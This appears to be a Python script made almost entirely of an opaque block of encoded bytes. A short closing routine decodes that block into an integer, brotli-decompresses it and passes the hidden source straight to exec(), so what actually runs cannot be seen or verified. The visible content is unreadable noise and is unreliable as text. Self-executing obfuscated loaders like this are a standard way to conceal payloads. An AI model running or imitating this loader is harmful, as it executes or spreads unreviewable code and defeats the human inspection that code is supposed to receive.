t^w)spH#C-hBQEy7F	f{x(9hM(q<~]pXFaV=L}8"lni\,NRʽ޾;kдX1jNdLʹBE@93	.5,tGڬ$ɬL'	>m@i(	nc.I5:ڃt|'7lD=((7ڲTm.Vx> Epv Yi!՜)fI[Qg~uV!Zf|bٳ:!Խ_q̘Hò.N3U۴H7vLlr$,UNx%'!ѥz6+D$gd2@Lj{fz'
Q1d}ե9}mƩ[DAZ|REӦR	p+k&bT,KpH\~lE1Uva/_f"ŋMS٭}K^VbL8+a}%ɕT,?ƼY0

H'u	^t1UܫlTaJzT|̉>dl6.8Nɚw&"ʑ׵6UhF˦\6Y!2yeQ
hn&Hjuǽa޽ɒVx;0 QBvҏ-	SLuac}܉u=7>ċ'>i5^<O6u}.5
<B`JZbwen`(b2ƪf<51K <@E#]H"SבbV̼*Ń"|S4ӁyXT@_Bgӻ8D"GAf'`$
i`l<XRdxqZ'}5(I3)1ew?'COo[ſl?3tcsP|2g|ogKO}dQ5`3u>~DC*I:SZ+mv`LoR}8'0qPTM`)X;Sxܶ9e~<w

gZE)k0h߯gt$"/CXMQeDW+wX<H!F*hG՜$g*'u#128mO^}$.?ʥJM.3/V8(C^)6Q;hłOo}s'jǐ*Le7.EW^o˹]r~-f$3M׺O%9xn~]2+ۿz̕RGzxx.
Զ?$HSB%aƎX,k4֤΂Ce8Xѧ ɐobfwZ2(%[t=[Nj;2aMWVBLȏ^>GuSj6Gbn>Z)y4QҒ:ţlQs8mmwrghQ@ǎǺӹDw֔ؒ(Onjwd#$ݞ>bvP EIOç)J֐}ktj#Ϳ
$+zɊq̛:LϥڀӒh#*ۧKaj,+|1:3w
5-"݅9ߎY/?3Mcˏ%ukh9]h!4?׎aٵBqopL_t	<	$1}3F0Yl9`TG;	*ZJ͋?۾@̮RS0MϒHG.Hc*L_ؘL{7+Fg(ik*m\LbPR݃83)g{5Gq)Ѿ-[oΥMs+ڪSX0Do#JQ+5K;_}KefxN{(mk1ƃLe7W
Ee9^E7Fѧ)+#D}QN6+5Q:Bfd*hY/MUT#\!)ɚjuJH[Z>܀˕
RGZM[͗S{cJHbdw F~gܭ>FӸcԼ(+K0Z"ب[j5Ӡk.մNe#Y@6M9TΈ}v~TK	[Ô5ϕF$EEPL&ȦBg2<O\"f	4.N1fߪ`	=+HЮI*<8uu%QFr؈/eޓۈIYOdWESotʿ]/K$-By5T&eq,|V`JTJHĆO=ʠIr\KX
=6! 7{m5٨|@=~KK-ُ:ej2O>489$Bj7\ǿԻ.'H4;1/L!w*8ďh	W
&Ȼf^||ɑE$p
 kwqhq,7լ80^k.BE"
HD0=}ń%NcK=3	'W y\'̂q9ZvV>A֤F6-ރۚ&S}_¶=vgjndp$"̹VobVa%(]\idK$OvHCkuOiMNWTݾtJHZ{d5[AW0GܠڒzNlթHn$9@|~h#bЀ
t,)VFN</J|YOQj<("Pq5*"ҁA ;k2ǑIТBUAIaY5ha[,V!Ms\9}N00K{Ycڪ4_>gdC^=*UBGȷL]y.6cycP]6.K8<T|/yn~ڟ\mdX.b|dCؘyؠ+6,tzh'%3ͦJ7!qsɐ]2Ve7M>2|hl;q(z20׸tw
X'q`{3Ku5e~׻rUEFA&?\F.ڦ(>˨]ÀpFyDLwj&ϲ8iGˮy,ڤjR؛dA%R`/dO\]POOzѼ2A$|\Cф [iPݩQL͂ym&bP#y<zDeXŉ'nÀk);\tY}IAу81(aӽhq^~;7FX`S-4'_!2mA?lw[SXC̖oíX\'TT5@d{'HgOjbkKӦZ^lw8q'66ʗ-;}^
uG:+b̾9/StpXATI;"38)*<Z8Lmh_%0-t!mJ`΢|*jH[q.ϟ(˒ȓ*ҁ8[ajf;	8ג̋|Y?߂˅*	P%Rn+NMw?vֈV+~L(l':3FF 5%26lcFKЛ$±X8C	]cQeR̭Y
e6ƂXA?ۑq-y͠מKtq!_8p"S~:8vc:Ͼ	fS>_6׾f<cg,/D3?O~+zqw5,
pMԬT!KeW&zKk[Xf*DĆ'p{@.
;/89[כ2EެP[#.r6|(?>.%#QԖӻ%bl2~OŦ+O:؜1-j#nu`UA߆^x܃1ǎ>(^3uR¿It)@P"p/4>ՒǢLL:pa2HezO֦<8T؆F;~A6HٿLXۛ)f44:8C
eeIMb7{_=fq:t'Rmb&C>) }PV!ԋ<7T,![1ޅԿͧ0y-MP0j*bqTp"j<cT0}yZ'_q%OO#s2v'l6=d\G n à7It+<'̩<5/c`/<@],J̖z&uˏâP`5+7*#Er$sx;P͹2Ԅκ"IdMh*rGvih,30U"yԗqg);(}VGeF;LH6ںa]{T9Isp2\un8dPz.7QxdΛG-'^Bv=r7بY}hUXɊtAHO.mٵS-?qc`ӀGd@Y`ȩ/YOcfQ׵6 U$/V/a)Mf?"Jёq+@#U/v-̔%(w8<Z\:ëN]|hʸ֙Ԡ}wTĿ!?g3̓{/iuO#w#3gW(ȀԌ7!i6$3dxA	?ֺ°$1y	/!qB[Ҍ77L0=4exu\Agۜs[7K"VaNW^u~Щ\
YG?0"OMAlýLŕb3xo}*
IGGFШnA<7g`8rNXФ2gVA4eHG,hK!={/@LQ9;tCz];?)?ڔ{1qĳ2;	79QhίN)	M+
̽}sL8$¸) ԟ+O/-_ÎlطxA!)g|aHкd$̻;dcoyflҦ/0ys7K	?g;|/Ax,Dzw[YdTy4UH[zQjƻHs4=f`̱q6N>(ÛÙ6cZl5.i4;2iGfpgb}͒c>nң{)5ΞUߕer`-^k!ܼܵTɫؚRu-9N2M=Lו"DNm,PLD}UQ$)'~ag
$UƜ2(ɵzhU"#˷PkW=-PkdқԚG8
hLN&ʻ$$KksAҵ؀uDn ɷ=PH /Տt[l:!uQS(2EϘ02s^szטh	ư	w"^̷E9T
l%\ɋ,څ49vK%ue9/mV(Texo=z@:[PuNdI:aɻwAI
C$<ݲԈ1DiMe3Fګ݁)5˂nRM@t(GTۥ4/_C=5avziٱ{zz$KtQ؜?
eIƌO֡WD [ȸMaFʉ=WGyir"Q_\ϰv"vjN(-1oe8v^ƽD6LթkgjvU{Ór?ۙH:O/ۋaW|jMըh̾^c.D5 lgY08C7|lu!Rw_ь8/y'@vRrO^0Dqr8s~#$1g.VXLaF>)uُVY4Lϼm14 Ҁt|Rp߁ό: پ-ܖGߐй(4}v7av۪lSG˹
dƴͤFٺ%`sٲ8jbs]u!֑$4Yfci:Ѯ?GWMmwe2S^hҋ9@YFn#mDzdjҶX5Z,?bՈAtHbW
:ʝ@	rǅ5.6HtZ)(9G&(#x]sJi3uQ-
AWӚq?["r׊E,{6mppET4RuP0@[?ƩPq9{:.&L[D6nGDG-ưYʱٖÇNrF!iÎ}[M$8߱Ҫߥx	w
Qڱ}G'.Xҝƴ1UZxԧqe
/JK_j݃WBHZ7dnx;Tˋy۽GY}<j	kAǪ	ܸ(zǔ`-ŵؖؒk޳/̶A]ǉo+";4h2"aJ{D׃̡@dHQ83!9odOo
Ʋw9Ý4t&tFG#9\?Ѵ?bЅ+^)}'qF._B2J4L xҦ?Ҳ(m	.+ G}܎wN(`D0Ç5qLpL!Z|2
-że"Er!CĸJ=aN'ZU@b]IEmBT8
d*=O7"K-_+}hwhU(
pRĂgfƣo?8F~'jdT"Yo
ϣЕֳnDE|jrIb3CA\Ԉ@W~vN6o}.cK՚R{0Ϻnefִ;W.2?7YۗVAN.#2HMCwpTŴN6pC҄ВӐE]9$7Iuba.$fK*r*:fLk<P\x0ȋڄ}8|XLB8T`s%*JJ(G0,6-rv;ڲ܏1QL-{޾]RW=N'H6ĤAa:i>K9y*(jJn֙UΟ- އȐopWF1h<uƠT:SI_]xzPP8gٓ}q*eMv6)nfaβ˙ɖDUjxMPֺkOLHw	hyJf\KȉD\l'ØڃA>/m}jCof3Ƈ+ zI(`3Zыn].;7CP9rǿ1ʖĒb9
Bޥh
|mn=dĶ
ۚB~?%1|͓њwPk2nڭ4TMfŨ(Siy	ĔޢBn78er0xH	&xOКÌ$6fJM 6PfJptC?)eq{՜`$(фl[mdѪ0{_Q2	Lq~CPz+9мK)فל\87gi)Q=]ypQn֎NXSAb0}Ta»f4ư9t*УԺae.@9sܥ@hhݱ1*8S1wT߷z7ܕf+d$}Փ{h/AmO;n1KGS|dw2k>_<2AP?(V͋q:ܥȨzEˬ)5~dט?e(lCd3I].Ŵ#_k.X8gٞ5Hǰ{ƺLϖl)Z'j0s	ؒfʷzTSW&*'˛Y[%Lh!i;7%P;%iHԖiJjOXԀ֓V(ݝ" [SWΜ]O|=Xa>x^?dh(Y)ҭƦax"xk])ՁA<~ކ0/ۙӁ%e֔p$8shxUG7J*-mNƱl[xȺCyAǍuAX9M2FH3ƸQ̋lv.eSR֫jߚc&Ng+|ݳJdQ˕޵m0%O}ɦȻfbFR-FEǻ;|"gJ:*)ړCA؀8'Mm5z5jb]5E5UHUߏ!^*XKE%!b#2sK*m/Eܲ@{ 8WyǛYf
`:}D{Ⱦc?7݃O͔t{y
8>Q66OVQqط8l~$c/Sѻ&5+w6@~Ϳ+:"]Y}R԰M|gty?O!+A>2}NwBĽͭޖNoӓJܩ&R.۹`67y˟Bz4ebNylD9=ۈ2ω`dCДGhW=ՂhJ@%UqFTݺ{4Ok34
{ʠ	V]c/ci08ְ7_ސue)tܢo	ʭ%[w;113d|rP	ךip4aRɻk$'ӞTp[Z5KTLW2l#/C	OI5:zogּ-:1jv<t~&;G˯wH	+S#Tkh[ŭ 4`z|?`EOwPЇ]yݦTtlɽܪ%x،tr'\;0~A&=ez5/w&x:Wɢz`iYD]lAOxrwC$®J^ls.^nO=8yBۣ55)iPg'.D+]_rpmC\QtbĀ'nTd&y_t_zyk^-
6eSHt6¤vϊfZ4| tS^س^ŠT,ȍhq4(lB:E3U޷y%̞#/=(w?gSƃB٭_,I Wů\ϬyN~7%+ٵ#Ð|B>C4ڜ*0Dcuv_&ߔ|USU/"/t"D7s?WKPN[ى4uVCbgPMmqš|̭|p?hQu/H.VܰFϔ^V]T^I*>;+D`L;5B?5<fVܛ 2Ifuxkt{mxͪ_(޽͏׍@)I*bԈ\$$hh+Tي%*e`ݠ.}.1	'Ү-V~7q	ɓc7G~%y7րk	*mWwN,;='ϕRJ]mpEVwqsjOWImV9ȶӺRm%|e9|zqȲbxg(RG.:.!Adxf"@ifr]ק#^s8s:c!#?$ڧjLoV^mK 	.A&ѦJDAĥ3p~ݳ=(ј@چͿ7Mu`ne}r1ڧҐ&ުШ׫gJ}=3"NaDo8-/ڐ 2kg@u׷Ϧ?QY[ n<D<
Nf&/f/Ч{CjgXYSel[lYNZY$XEOfw"m0%VN=S ͛*εm`LDykdۆ.J8pBcRRDSɡCȔ^z!C /u/x""e!/d0-gݖؠr!SCDDP@Ь	%B$Eɿ7NW˹Qe7kyjQhYvčEo(GɑP\@u7@ gڭ;˔q;_N/3Jeyʱ"\ƈ?ap0Iq5N)u%L׉K
Lѕx9];~]PtR&Bg p %ȰUb#Q*{/;	k&c[׾ZݫlصFY#"lUٝewd?&΅LýlQoEh<%t:QI}wmHDdk֝\U#wݖLhVuT)6;myS5)Oۂxbқ."7uɪ"OfܫxY}C.BAzEBRÿW3p|7wd>N0"d_7i]Q~kR{L!3JɇuΧ׎Hel%]0	؋ [ܶ#?<\n
y̙ZEpB{7һZ~:y}M/t|ă-;SaOQg		M:Yxt6k5l.+MfT7xRDAB+%J;W }d^j5%WKL-t@("1,b))qnLUP̟7}j(;DKo^j|`ȪqAG3|aKLv9̓r
ݗ_'Ѭn:ATWK	:~r_]],Mq~Gc[ڏmbȇY2,g9DE)(uݗѡ0ZݽR

fnRb6q[۞*/oHJ-sriO%`B\NDٻ5b7c!-3#ݵWhDRXI_C1\mRl!U]g#{$$fV_I_g̿.9eH4]PPEً۲:ɛk70+ޏ!AQ/Z_uf3t@t`ZȢIdDvh|"@<|E}zȅέ߷&̊.wd,.);9=e$v{Ս~{#Z
&%4sQ?W/0%\__ưfǕw+&Lmn<ͼ;^_S9ȜapQޑ<0ƣv/q\T	toL(I-l1	׶fA}FA<&`c0 Oݿ9K&C)J#;B-Pq__uwSV	BeFkǶOVq?8Z[08̰֧a!̎/+AO'	M͔0xs%~3i2Tþ̓QsZ?%Zg#[ukz>vpAp۶R!a7N~gB^s~/"XO!S$D$>JOnV|yܶǜH'%Ը4Ck3g2!AMنwa!{oj#R,=lp[x>ҝ8_Kbz &m*ӏA_ߙ/nL ˣqFEx7#^tdzdtNlsvny!ޡ@yʩ9Sƒu'd4̭$t	9{Y.
ΣbW5߄`ɒxZ$
fwޫ#6C~oB3;lӫutGbHl٘ޛAؚPUh}lZ9Eܸ֮/%ʫ!m	?h,4ڃ4ɡz#=x&Ҷqp*8>yow7zdOa(ۘܗ{IV9o5cׇ^`3wu+PJLjoV=:WP"399ޟ#ޒ7wU˲a(.dZgOs&=U GOߚ׽/dum[JZIQ879BXM\Q`ʙ{ľKgG%gjV6տ)4iWPyL^.e	K&{śAVa%Uo-4KhS$PDԁgQ\!+@2J؃7ߧ6|6;8ޜɟ8=kȼ3їs>]/aZ٨j>\]lzz8^#׼Ivwf/YupHD0Mq$f<-n7}|l["enCI{s] #o1tPRvsHbRe͕
6CoY;5~yB<
ԁa_h?=':ԡ}l+˿OЬ;NRW&Q~oŎm=ڑ1o=L;2lZSu8@CnI'],"JRF&>OU#a$su)lۇƲ#?7nel^+Y*ǘUHBBnDXǯInhf z 6'cf8s0Eϸ$i7xl:}s46FiŚ-۬("8;8ӞGy&@&^fEV} rg7/1FY:9
L9nyqg	N,)Ti7<͟5HXuUe-/Mǵ?mŉ!Q	c.sO"nPu49ou`ăviJkCC%|eb?S^:4me#=%5هP-q$ZM>}`o:,ݎk NWǿTm)Z7[vt{gm%َtlHvߠ[QC#jĕMLSŮ*3H.#{q2˝qTAu#X\
T,H!BRZ8%;jl܄.raMZgǷQM9"QFXørΩR%aF.p]d"+_E60kM_óE$yGVh6/tE1§x9Xlq#ёǿb.5(u
KuCEΨɴ;\=kz*ˊwe ۢWBAR`)ɓ8I'_@ڂ^ٺvzNH(I}ʛ?"
x?6ЂԲXAdŋg0aݬKo$!q?A40S2/R\*wŌ.Fd-cq+!&kBBֈ5g<zݼ͍/O׾)554<HYiFzLTz7=(Pؗs?d=ߒ)x~PĂ3 ز+8l\" y"	Hy֫תIa/fľGظ8g1<wJ9r"Pk8¶1RU,a@@.֞ɨ9u9OwO}vF&BL\e{BzmQ`Gv-صFҤ$aZ1r?ԾzY{|ONaf@tr?s,"t]e"C/DHnReovP(DD'q\҃_x:pqWnř|S	(xjaǪ\oϜ!r]'o+>ʿU.ۆLb~aџdoTqBȳ&֌!)(lmgo]CJ&G=NC!Xü_dLg@t]7C(Vbr:7L͙ߒ߁<Ǚ)sQJnbX..K^8Jܸ`uV8[*2	sL5VV+"ʔn<.z͂* אDXBnO{dc1Nn<~Ȯ[-9!,SpR~pMįuK,̨]*Ͷ,vOܘa+t8Wߛ۾IJA.~&/R.9a٩;23,ǧhg>ƗXpU>ܨBIdCH	7X<}7C-axiU,%IyCUXp#tzZQ2ܛ71%T4Нln½/ʰE[eޥ(j^HղZ.p}tb4v<sG4eD+Lڿ'*ly2,!̅pK%*gՇOu=̆KXk r<ɛo-HS$0yW͟iԂ=^޴:(%N{)y4
%4X0ZQMxU~Q9XBҦR:E\_Zu`Wʙ*^Y.7&caomkQI3E՟ިrTZ&>>ҹĝv͡A>,-&/bjéY
nӟW͝989p3$W"H%@;@(f3^ʶb̍'ż6<-1˦(+	4{;Ӗ y-ET*e,4^ɋ&~Z9@XeUO([+DltԆ}aGߋV][h#qiQBDmP#JڧZϮҙCƇyȇ W
2av_LDg:|I@΅׊,+/oٹi×զ*Iۈ[:Kfɤb7Q"2%N҉PSnj$v7߰NEȞl\sٯ(Gr4^#0LҺ`-iFPJci#'#[
U*B;UCT0@֒]l5թǂrW@[+zr_g݇Eɭ*&Wa	b5p^?dkѓC	>
1Yy94ʟ_ayfZz׀oOrH2ouss7[n#(=fHvѿ:yyMpSw7ܪ@jDxiFFoɰΤ#Y'd+8>Ϊa	aeʬwZr4M3/Xәe@`8[O!/]Į̓[MSki$MnKήh8.ܲZ%hц<?U$pYݒnMQ(%@/]/Lk?8HĹD{u.wìɍS$j//7$˴:ue+˂u7y:ȮLa^y4jI/*/&,(?;#}DUY}r/`#|8NV6^J¥L#R1njg'\aL9-|*%ɹ~A{A5Nu_%ۻԀ7zGt;[ύ,[f>=@hfYDK|ԺC^| GZJo5jvyU grʈ\ئI:ןRh5 JbqڶxnNʝGgZ5ߒQFܾ6NJ¨Y̊|#}bTm^ЋȠǰA-&.**-Q;1V%#9˾wcYF=W5-{o]sWOg~.x>iPL_h3Lņuȣ=Ƈ
F28OuxY9)0B/b_? A]L	M}PK9͞m)]ϤӃCl"Ogf	b']/9wofhC(M
Ul¬`Aޖ,39]F]O*^̚/EO&3i)NlI@xvSFU,764IE]G\2=eZy	^XvYpNن=Q:(-[Գz}C(_J!;c*sU5~
Zѷ{/L-9?z)t`	HΕ˕Y5roO"
!9Dُ/Ծk1>ASr@KՒ(&F: PܺZ`0Gx{*BHit3sy,s_0N]Y`>%eWre=2-H6PKhU3|<kׯbrh1Y.)yιmHǚiTMP'0Q|/'kb!oT)
ݙ'; iiӼnù<AiMV;kMaLH'~8v2zg,= 'T$'nҾa]BPGoք|.Q5ɪe%֓ݽخ!|uLqɟEߨaJ>!uE,#e4ǈ{j-0GlY!'W^؞΀ɼ^6Ul:1ț~%JhX٬<OЪߐ`H	SYX͛rciqCݠɆaEW?|]lj3$m֪r=q21\+֨&1|WX&n<@Р^6JyJ;a86ߤx_'h]04jF"@@S(*-30>)״FHc9mbx?5'VEBtȯ#mկ\f>ܮBա{c=od`/cL\~kj=#8CKk-mƅx6|/s4ȽƧlpރb[<j+57'o*(KO%|v^O;;#I%-e]<d
;=#pM	tzkn$K2n]0QYOʂTY4Y]ȱ@I	>Өڭ
	b,pc{zs	ʕrˆ2KޡW5j)aIӵbH,Ak͆L/qr[M	vb܌:f	IҋZ̹{v|Sa'(EC݈iϧ4!*nCԒkJQ=w_V
\Q^I{W)'v+gÄeSp4$gԧ@W%
}N8bhbBsSoHqP?ɕe\r=1(*?31R73B?J=2@gPɣ	zШub%BtK^IyL*YjxVh΀vs8$6gáyRnǏ#~(bj/*$$|.AMf֯{9*{{Z'GɳG2`K6R%YZ=r\u͂0e2SRȄ FTmcqvpԸ-*AP%%<"M5χ&Q75ƉR>m(JdO׌i(5n&l#g{IQ'qD\a
ܭ+GSΤzhF99AmϜeǟRw4 :pɿ$1f*o3eN|\_RwI!obF<&L1jÑPaC9V!!GkݚT!"DA<Ce<գC?oNCQʕ!d$O
7s!?0a*lִ*t)ؘ8[	CT)j-͛+.%ES>?06q~CGE`y7&>fƾQ2w:4,iK#Ŗ͒Ȟ ]TMǃ9m{aI_M7mCq*6(O-lf_CuAS0ZeG3/U.mgǨ:dADE,kfXۭiX*ty	rH@̍Ͳ޷L(M[2zr%Ԗc{8̻|R_X	p61azϙމ¶bhId!oٜ1ۈm/Mm)I~-M=o	~oH̭($w]C^xeAw&7m-.UImp_řlğX'd lrܤ<idׂaTM]߇۔pI5>0fړ"M+ٝilĞ\<t\l!.XЗ7ua;!eiKWZLhQlHGcݻ7Idrֻ[G?hא	)@݊Sy&/Ƭ3eN>VMДv>TqD`[?nb
|A 7V\H1.z ;Ά[1<*'J|>2E^\	T5>+;kJB	WE͈TG:9ڠs
?
џU )DY]4`0W, %G2poC۶`~.'RAř?x%CCy(@j7C|]\ɻY9>6Dt^̺[B%a#Fd6cA 'WMY1{ÔծLm?A83݋Z7xp7.5
{ҧyDƴhr3wP<٣8~6rw;>-aG#7N
	G6!!=^eOi+mĦg[j.MTGx]3#'\!՗oFDiʹyhuU	E|h;rD#5k>CJl'w`1POOUgC7	AfoӞZڜG
*U#P~@w{ӆH9"&؜x@	~L'ԕ2y_@GضMݶ|Ӫή¿5~@lӬ۸M3krmsb>U?dzوAűބ~HAra/[kA_'1?MHB|IbԘRWV:PU6z./ OcհDH''':
 o=ord(c)
 for x in([o-1-(o>13)],[o-128,126])[o>127]:n+=x*b;a,b=b,126*b+1920*a
s=brotli.decompress(n.to_bytes(26258)).decode()
import linecache
linecache.cache['<string>']=0,None,s.splitlines(1),0
exec(s)
